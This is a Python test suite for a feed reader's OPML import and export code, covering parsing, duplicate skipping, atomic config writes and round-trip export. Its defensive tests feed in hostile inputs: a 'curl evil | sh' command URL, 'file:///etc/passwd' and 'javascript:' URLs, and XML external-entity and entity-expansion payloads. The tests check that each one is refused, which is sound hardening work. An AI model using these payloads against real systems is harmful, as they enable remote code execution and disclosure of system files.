"""briefing.ingest.opml: reading OPML safely, appending to the config textually,
writing atomically, exporting OPML 2.0."""

from __future__ import annotations

import os
import stat
import tomllib
import xml.etree.ElementTree as ET
from xml.sax.saxutils import quoteattr

import pytest

from briefing.config import load_config
from briefing.ingest.opml import (
    OpmlError,
    export_opml,
    import_opml,
    parse_opml,
    toml_string,
    write_atomically,
)

CONFIG = """\
# Story file with comments that must survive.
[story]
id = "s"          # an id
title = "Story"

[settings]
timeout = 5

# The feeds
[[feeds]]
name = "BBC"
url = "https://feeds.bbci.co.uk/news/rss.xml"
"""


def opml(*outlines: str, head: str = "<head><title>subs</title></head>") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><opml version="1.0">{head}<body>' + "".join(outlines) + "</body></opml>"
    ).encode()


def outline(text: str, url: str | None, **attrs: str) -> str:
    """An <outline>; the values are given as they should read (escaped here)."""
    values = {"text": text, **({"xmlUrl": url} if url is not None else {}), **attrs}
    return "<outline " + " ".join(f"{k}={quoteattr(v)}" for k, v in values.items()) + "/>"


@pytest.fixture
def config_file(tmp_path):
    path = tmp_path / "feeds.toml"
    path.write_text(CONFIG)
    return path


def import_file(tmp_path, config_path, data: bytes):
    source = tmp_path / "subs.opml"
    source.write_bytes(data)
    return import_opml(load_config(config_path), source)


def test_parse_nested_folders_titles_and_attribute_case():
    feeds = parse_opml(
        opml(
            '<outline text="News">'
            + outline("Al Jazeera", "https://www.aljazeera.com/xml/rss/all.xml", type="rss")
            + '<outline text="Deeper">'
            + outline("t", "http://example.com/feed", title="Title wins")
            + "</outline>"
            + "</outline>",
            '<outline text="A web page" htmlUrl="https://example.com/"/>',
            '<outline text="Odd case" XMLURL="https://example.org/atom"/>',
        ),
        "subs.opml",
    ).feeds
    assert [(f.name, f.url) for f in feeds] == [
        ("Al Jazeera", "https://www.aljazeera.com/xml/rss/all.xml"),
        ("Title wins", "http://example.com/feed"),
        ("Odd case", "https://example.org/atom"),
    ]


def test_names_are_cleaned_and_missing_names_use_the_host():
    # XML 1.0 cannot carry ESC at all; C1 controls (8-bit CSI) and bidi overrides it can.
    feeds = parse_opml(
        opml(outline("\u009b31mRed\u202e  name\n", "https://a.example/rss"), outline("", "https://b.example/rss")), "x"
    ).feeds
    assert [f.name for f in feeds] == ["Red name", "b.example"]  # \x9b31m is an 8-bit CSI


@pytest.mark.parametrize(
    "url, shown",
    [
        ("exec:curl evil | sh", "exec:"),
        ("filter:~/bin/f.sh:https://example.com/", "filter:"),
        ("file:///etc/passwd", "file:"),
        ("ftp://example.com/feed", "ftp:"),
        ("javascript:alert(1)", "javascript:"),
        ("/relative/feed.xml", "not absolute"),
    ],
)
def test_non_http_urls_are_left_out_and_said_to_be(url, shown):
    document = parse_opml(opml(outline("Good", "https://example.com/rss"), outline("Bad", url)), "subs.opml")
    assert [f.name for f in document.feeds] == ["Good"]
    [refused] = document.refused
    assert refused.name == "Bad" and shown in refused.problem and shown in refused.detail
    assert refused.detail.startswith("feed 'Bad' has ")
    assert "\n" not in refused.problem + refused.detail


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?><!DOCTYPE opml SYSTEM "http://example.com/opml.dtd"><opml/>',
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<opml version="2.0"><body><outline text="&b;" xmlUrl="https://e.com/"/></body></opml>',
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY ext SYSTEM "file:///etc/passwd">]>'
        b'<opml version="2.0"><body><outline text="&ext;" xmlUrl="https://e.com/"/></body></opml>',
    ],
)
def test_dtds_and_entities_are_refused(data):
    with pytest.raises(OpmlError, match=r"^x\.opml: refused: the file has a DOCTYPE declaration"):
        parse_opml(data, "x.opml")


@pytest.mark.parametrize(
    "data, message",
    [
        (b"", "not an OPML file: XML error"),
        (b"<opml><body>", "not an OPML file: XML error"),
        (b'<rss version="2.0"><channel/></rss>', "not an OPML file (the root element is <rss>, not <opml>)"),
        (b'<opml version="2.0"><head/></opml>', "not an OPML file (no <body>)"),
        (b"\xff\xfe garbage", "not an OPML file: XML error"),
    ],
)
def test_not_opml(data, message):
    with pytest.raises(OpmlError) as error:
        parse_opml(data, "f.opml")
    assert str(error.value).startswith(f"f.opml: {message}")


def test_import_appends_blocks_and_keeps_every_byte(tmp_path, config_file):
    result = import_file(
        tmp_path,
        config_file,
        opml(
            outline("Al Jazeera", "https://www.aljazeera.com/xml/rss/all.xml"),
            outline('Back\\slash "quoted" ünïcode', "https://example.com/feed?a=1&b=2"),
        ),
    )
    assert [f.name for f in result.added] == ["Al Jazeera", 'Back\\slash "quoted" ünïcode']
    assert result.message() == f"{config_file}: added 2 feeds, skipped 0 already listed"
    text = config_file.read_text()
    assert text.startswith(CONFIG)
    assert text[len(CONFIG) :].startswith("\n# Imported from subs.opml by `briefing opml import`.\n\n[[feeds]]\n")
    config = load_config(config_file)
    assert [(f.name, f.url) for f in config.feeds] == [
        ("BBC", "https://feeds.bbci.co.uk/news/rss.xml"),
        ("Al Jazeera", "https://www.aljazeera.com/xml/rss/all.xml"),
        ('Back\\slash "quoted" ünïcode', "https://example.com/feed?a=1&b=2"),
    ]
    assert config.settings.timeout == 5


def test_duplicates_by_url_or_name_are_skipped(tmp_path, config_file):
    result = import_file(
        tmp_path,
        config_file,
        opml(
            outline("Another name", "HTTPS://FEEDS.BBCI.CO.UK/news/rss.xml/"),  # same URL, spelt differently
            outline("bbc", "https://other.example/rss"),  # same name, other case
            outline("New", "https://new.example/rss"),
            outline("New again", "https://new.example/rss"),  # a duplicate inside the file
        ),
    )
    assert [f.name for f in result.added] == ["New"]
    assert len(result.skipped) == 3
    assert result.message() == f"{config_file}: added 1 feed, skipped 3 already listed"


def test_nothing_new_leaves_the_file_untouched(tmp_path, config_file):
    stamp = config_file.stat().st_mtime_ns
    result = import_file(tmp_path, config_file, opml(outline("BBC", "https://x.example/")))
    assert result.added == ()
    assert result.message().endswith("(file unchanged)")
    assert config_file.read_text() == CONFIG and config_file.stat().st_mtime_ns == stamp


def test_crlf_and_a_missing_final_newline_are_respected(tmp_path):
    path = tmp_path / "feeds.toml"
    original = CONFIG.replace("\n", "\r\n").rstrip("\r\n").encode()
    path.write_bytes(original)
    import_file(tmp_path, path, opml(outline("New", "https://new.example/rss")))
    data = path.read_bytes()
    assert data.startswith(original + b"\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert [f.name for f in load_config(path).feeds] == ["BBC", "New"]


def test_a_config_whose_feeds_are_an_inline_array_is_refused_unchanged(tmp_path):
    path = tmp_path / "feeds.toml"
    original = 'feeds = [{name = "A", url = "https://a.example/"}]\n[story]\nid = "s"\ntitle = "S"\n'
    path.write_text(original)
    with pytest.raises(OpmlError) as error:
        import_file(tmp_path, path, opml(outline("New", "https://new.example/rss")))
    assert "nothing was changed" in str(error.value)
    assert path.read_text() == original
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feeds.toml", "subs.opml"]


def test_a_symlinked_config_stays_a_symlink(tmp_path):
    real = tmp_path / "real.toml"
    real.write_text(CONFIG)
    link = tmp_path / "feeds.toml"
    link.symlink_to(real)
    import_file(tmp_path, link, opml(outline("New", "https://new.example/rss")))
    assert link.is_symlink()
    assert [f.name for f in load_config(real).feeds] == ["BBC", "New"]


def test_write_atomically_keeps_permissions_and_leaves_no_temp_files(tmp_path):
    path = tmp_path / "f.toml"
    path.write_text("old")
    os.chmod(path, 0o600)
    write_atomically(path, b"new")
    assert path.read_bytes() == b"new"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["f.toml"]


@pytest.mark.parametrize(
    "value", ["plain", 'q"uote', "back\\slash", "tab\tand\nnewline", "del\x7f", "ünïcödé ✓", "\u0000nul"]
)
def test_toml_string_round_trips(value):
    assert tomllib.loads(f"x = {toml_string(value)}")["x"] == value


def test_export_is_opml_2_that_imports_back(tmp_path, config_file):
    import_file(tmp_path, config_file, opml(outline("A & B <c>", "https://a.example/rss?x=1&y=2")))
    config = load_config(config_file)
    text = export_opml(config)
    root = ET.fromstring(text.encode())
    assert root.tag == "opml" and root.get("version") == "2.0"
    assert root.find("head/title").text == "briefing: Story"
    assert root.find("head/dateCreated").text.endswith("GMT")
    outlines = root.findall("body/outline")
    assert [(o.get("text"), o.get("xmlUrl"), o.get("type")) for o in outlines] == [
        ("BBC", "https://feeds.bbci.co.uk/news/rss.xml", "rss"),
        ("A & B <c>", "https://a.example/rss?x=1&y=2", "rss"),
    ]
    assert [(f.name, f.url) for f in parse_opml(text.encode(), "export").feeds] == [
        (f.name, f.url) for f in config.feeds
    ]
